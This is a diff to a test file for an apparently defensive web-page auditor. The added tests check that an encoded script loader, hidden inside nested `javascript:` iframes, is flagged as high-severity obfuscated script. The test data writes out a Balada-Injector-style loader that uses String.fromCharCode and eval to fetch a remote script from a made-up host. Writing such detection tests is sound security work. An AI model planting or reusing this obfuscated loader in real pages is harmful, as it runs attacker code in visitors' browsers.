@@ -54,3 +54,29 @@ def test_a_unit_written_into_a_frame_is_a_placement_with_its_ids(
 ])
 def test_the_markup_a_javascript_frame_writes(code: str, markup: str | None) -> None:
     assert javascript_document(code) == markup
+
+
+# an encoded loader (a made-up host's address in character codes, as Balada Injector writes
+# it) in the document a `javascript:` frame writes, and in one such frame's written frame
+_LOADER_CODES = ",".join(str(ord(c)) for c in (
+    "var e=document.createElement('script');e.src='https://cdn.statsharbourpulse.test/v2.js';"
+    "document.head.appendChild(e);"))
+_ENCODED = f"<script>eval(String.fromCharCode({_LOADER_CODES}));<\\/script>"
+_WRITTEN = f"javascript:document.write(&quot;{_ENCODED}&quot;)"
+_NESTED = ("javascript:document.write(&quot;&lt;iframe src=\\&quot;javascript:document.write("
+           f"&amp;quot;{_ENCODED.replace('<', '&amp;lt;')}&amp;quot;)\\&quot;&gt;"
+           "&lt;\\/iframe&gt;&quot;)")
+
+
+@pytest.mark.parametrize("src", [_WRITTEN, _NESTED], ids=["written", "written by a written frame"])
+def test_an_encoded_loader_a_javascript_frame_writes_is_found_at_the_frame(
+        catalogue: Catalogue, src: str) -> None:
+    """What a `javascript:` frame writes is its document as a srcdoc is: an encoded loader in
+    it is as hidden as in a srcdoc, found `high` at the frame's line (it was found in a
+    srcdoc, and not in a written frame)."""
+    html = _HEAD + f'<div>\n<iframe width="300" height="250" src="{src}"></iframe></div>\n'
+    (page,) = audit(html.encode(), url="https://city.test/story", catalogue=catalogue,
+                    engine=Engine.from_text("", name="t")).pages
+    found = [(f.kind, f.severity.value, f.line) for f in page.findings
+             if "statsharbourpulse" in f.evidence]
+    assert found == [("obfuscated-script", "high", 3)], page.findings
